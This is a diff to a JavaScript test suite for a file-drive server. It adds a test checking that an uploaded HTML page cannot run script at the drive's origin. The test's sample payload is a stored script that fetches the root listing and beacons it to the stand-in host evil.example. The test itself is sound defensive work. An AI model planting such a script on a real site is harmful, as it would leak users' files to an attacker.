@@ -171,6 +171,21 @@ describe('shardvault mount', () => {
     expect((await send('GET', '/packed/a.txt')).status).toBe(200);
   });
 
+  it('lets no stored page run at its origin, where the signed-in browser reads everything', async () => {
+    // A page of the drive's own origin would read every file with the browser's sign-in.
+    const page =
+      '<!doctype html><script>fetch("/").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>';
+    expect((await send('PUT', '/page.html', { body: page })).status).toBe(201);
+    for (const path of ['/page.html', '/']) {
+      const answer = await send('GET', path);
+      expect(answer.status).toBe(200);
+      expect(answer.headers['x-content-type-options']).toBe('nosniff');
+      expect(answer.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
+    }
+    expect((await send('GET', '/page.html')).headers['content-type']).toBe('application/octet-stream');
+    expect((await send('DELETE', '/page.html')).status).toBe(204);
+  });
+
   it('bounds what locks make a PROPFIND say: owners and locks stacked on one resource', async () => {
     // Each depth-infinity lock on a folder is listed in every child's lockdiscovery: 100
     // shared locks with 60 KiB owners over 200 files made one PROPFIND take 38 s and 1.2 GB.
